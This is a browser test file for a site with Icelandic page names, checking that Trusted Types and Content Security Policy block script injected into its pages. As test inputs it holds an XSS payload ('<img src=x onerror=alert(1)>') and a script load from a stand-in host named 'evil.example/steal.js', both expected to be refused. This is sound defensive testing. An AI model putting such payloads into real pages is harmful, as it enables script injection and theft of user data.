// What the browser refuses a script that has come into a page of ours, and what ours may still do.
import { openLive, test } from './support/site.ts';
import { expect } from './support/test.ts';

test.use({ expectedMessages: [/Trusted ?(Type|Script|HTML)|Content Security Policy/] });

test('no text becomes markup or the address of a script, no other policy is made, and the page goes on', async ({
  page,
  site,
}) => {
  await openLive(page, `${site.url}/um-okkur`);
  const refused = await page.evaluate(() => {
    type Factory = { createPolicy(name: string, rules: object): unknown };
    const { trustedTypes } = window as unknown as { trustedTypes: Factory };
    const makePolicy = (name: string) => trustedTypes.createPolicy(name, {});
    const tried: Record<string, () => unknown> = {
      markup: () => {
        document.body.innerHTML = '<img src=x onerror=alert(1)>';
      },
      elsewhere: () => {
        document.createElement('script').src = 'https://evil.example/steal.js';
      },
      'no script': () => new Worker('/arsskyrsla/um-okkur'),
      'not below assets': () => new Worker('/arsskyrsla/api/assets/upload.js'),
      code: () => {
        document.createElement('script').text = 'alert(1)';
      },
      policy: () => makePolicy('other'),
      'same policy': () => makePolicy('default'),
    };
    return Object.entries(tried).map(([name, act]) => {
      try {
        act();
        return `${name}: done`;
      } catch (error) {
        return `${name}: ${error instanceof TypeError ? 'refused' : String(error)}`;
      }
    });
  });
  expect(refused).toEqual([
    'markup: refused',
    'elsewhere: refused',
    'no script: refused',
    'not below assets: refused',
    'code: refused',
    'policy: refused',
    'same policy: refused',
  ]);
  const own = await page.evaluate(() => {
    const { pathname } = new URL(
      performance.getEntriesByType('resource').find(({ name }) => /\/assets\/.*\.js$/.test(name))?.name ??
        location.href,
    );
    document.createElement('script').src = pathname;
    return pathname;
  });
  expect(own).toMatch(/^\/arsskyrsla\/assets\//);
  await page.getByRole('link', { name: 'Stjórn' }).first().click();
  await expect(page.getByRole('heading', { level: 1, name: 'Stjórn' })).toBeFocused();
});
